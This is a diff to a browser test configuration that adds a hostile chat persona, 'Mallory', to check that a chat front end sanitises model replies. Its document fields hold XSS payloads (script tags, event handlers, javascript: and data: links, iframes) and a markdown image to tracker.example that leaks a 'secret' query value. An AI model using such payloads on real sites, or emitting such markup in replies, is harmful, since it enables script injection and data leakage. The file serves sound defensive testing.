@@ -7,7 +7,7 @@ import { chromeLauncher } from '@web/test-runner-chrome';
 import { getRequestListener } from '@hono/node-server';
 import { SignJWT, decodeJwt } from 'jose';
 import { createEmulator } from './src/emulator/app.ts';
-import { defaultPersonas } from './src/emulator/personas.ts';
+import { defaultPersonas, parsePersonas } from './src/emulator/personas.ts';
 import { createBackend } from './src/server/app.ts';
 import { chromiumFlags, findChromium } from './test/support/chromium.mjs';
 
@@ -27,7 +27,31 @@ const origin = `http://127.0.0.1:${port}`;
 const apiKey = 'browser-test-key';
 const tokenSecret = 'browser-test-secret-of-at-least-32-bytes';
 
-const emulator = createEmulator({ apiKey, pace: 60 });
+/** A persona whose documents are hostile, so its replies carry markup and links a model could be tricked into. */
+const mallory = parsePersonas({
+  personas: [
+    {
+      personaId: '0b9c7c0e-5f7a-4c55-8a0e-6d1f3b2a9c41',
+      personaVersionId: '7e2d9a14-3c5b-4f6e-9a8d-2b1c0f4e5d63',
+      name: 'Mallory',
+      documents: [
+        {
+          documentId: 'hostile',
+          title: 'Hostile <b onmouseover="window.__xss=1">title</b>',
+          url: 'javascript:window.__xss=1',
+          passages: [
+            'Hostile reply test: <script>window.__xss=1</script> <img src=x onerror="window.__xss=1"> ' +
+              '[click](javascript:window.__xss=1) [encoded](&#106;avascript:window.__xss=1) ' +
+              '<iframe src="javascript:window.__xss=1"></iframe> <iframe srcdoc="<script>parent.__xss=1</script>"></iframe> ' +
+              '![pixel](https://tracker.example/p.png?leak=secret) <a href="javascript:window.__xss=1">raw link</a> ' +
+              '[data](data:text/html,<script>window.__xss=1</script>) <details open ontoggle="window.__xss=1">x</details>',
+          ],
+        },
+      ],
+    },
+  ],
+})[0];
+const emulator = createEmulator({ apiKey, pace: 60, personas: [...defaultPersonas, mallory] });
 /** Every continue request the emulator received, and whether it was aborted: what tests assert on. */
 const continues = [];
 const upstream = async (input, init) => {
@@ -49,7 +73,7 @@ const backend = createBackend({
   fetch: upstream,
   http2Fetch: upstream,
   apiKey,
-  personaId: defaultPersonas.map(p => p.personaId),
+  personaId: [...defaultPersonas, mallory].map(p => p.personaId),
   tokenSecret,
   allowedOrigins: [origin],
   basePath: '/persona-chat',
